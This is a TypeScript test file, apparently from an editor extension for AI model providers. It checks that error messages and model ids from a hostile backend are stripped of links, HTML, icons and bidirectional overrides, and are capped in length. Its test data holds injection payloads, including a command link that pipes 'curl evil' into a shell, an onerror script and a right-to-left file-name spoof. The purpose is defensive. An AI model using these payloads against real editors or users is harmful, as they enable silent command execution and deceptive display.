/**
 * Text from a server is never markup: a hostile backend's error message, model ids and finish
 * reasons reach notifications, quick picks, the tooltip and the report page as inert, short text.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createProvider } from '../../../src/backends/providerRuntime';
import { guardedProvider } from '../../../src/core/providers/guardedProvider';
import { ProviderError } from '../../../src/core/providers/providerError';
import { parseProviders } from '../../../src/core/settings/providerSettings';
import { startEmulator, type Emulator } from '../../emulator/server';

const HOSTILE =
  'Quota exceeded. [Reset your quota](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) ' +
  '<a href="command:workbench.action.openSettings">here</a> <img src=x onerror=alert(1)> $(verified) official ' +
  '![x](https://evil.example/pixel.png) [ref]: command:evil \u202Egnp.exe ' +
  'x'.repeat(20_000);

/** What would render as a link, an image, HTML or an icon in a notification, tooltip or quick pick. */
function assertInert(text: string, where: string): void {
  assert.doesNotMatch(text, /\]\s*\(/, `${where}: no Markdown link or image`);
  assert.doesNotMatch(text, /<\/?[A-Za-z!]/, `${where}: no HTML`);
  assert.doesNotMatch(text, /\$\(/, `${where}: no theme icon`);
  assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/, `${where}: no bidirectional override`);
}

describe('server text is never markup', () => {
  let emulator: Emulator;
  before(async () => {
    emulator = await startEmulator({
      tokensPerSecond: 0,
      quotas: { dashscope: { requestsPerDay: 0, quotaStyle: 'dashscope', quotaMessage: HOSTILE } },
      models: ['emulator-chat', '[click](command:evil)', '$(shield) trusted-model', `long-${'m'.repeat(50_000)}`],
    });
  });
  after(() => emulator.close());

  const provider = (preset: 'dashscope-intl' | 'custom', baseUrl: string) => {
    const { providers } = parseProviders([
      { id: 'p', preset, baseUrl, chatModel: 'emulator-chat', completionModel: 'emulator-coder' },
    ]);
    assert.ok(providers[0]);
    return guardedProvider(createProvider(providers[0], 'sk-test-0123456789abcdefghij'));
  };

  it("a quota error's message carries no link, HTML or icon, and is short", async () => {
    const client = provider('dashscope-intl', emulator.baseUrls.dashscope);
    await assert.rejects(client.fim({ prefix: 'const a = ', suffix: '' }), (error: unknown) => {
      assert.ok(ProviderError.is(error, 'quota-exhausted'), String(error));
      assertInert(error.message, 'error message');
      assert.ok(error.message.length <= 600, `capped, got ${error.message.length} characters`);
      assert.match(error.message, /Reset your quota/, 'the words stay readable');
      return true;
    });
  });

  it('any ProviderError, whoever built it, holds inert text', () => {
    const error = new ProviderError({ kind: 'server', providerId: 'p', message: HOSTILE, code: '[c](command:x)' });
    assertInert(error.message, 'message');
    assertInert(error.code ?? '', 'code');
    assert.ok(error.message.length <= 600);
  });

  it('model ids a server lists are inert and capped before any picker sees them', async () => {
    const client = provider('custom', emulator.baseUrls.openai);
    const ids = (await client.listModels()).map((model) => model.id);
    for (const id of ids) {
      assertInert(id, `model ${id.slice(0, 40)}`);
      assert.doesNotMatch(id, /[[\]`*]/, 'no Markdown punctuation');
      assert.ok(id.length <= 200, 'capped');
    }
    assert.ok(ids.includes('emulator-chat'), 'ordinary ids are untouched');
  });
});
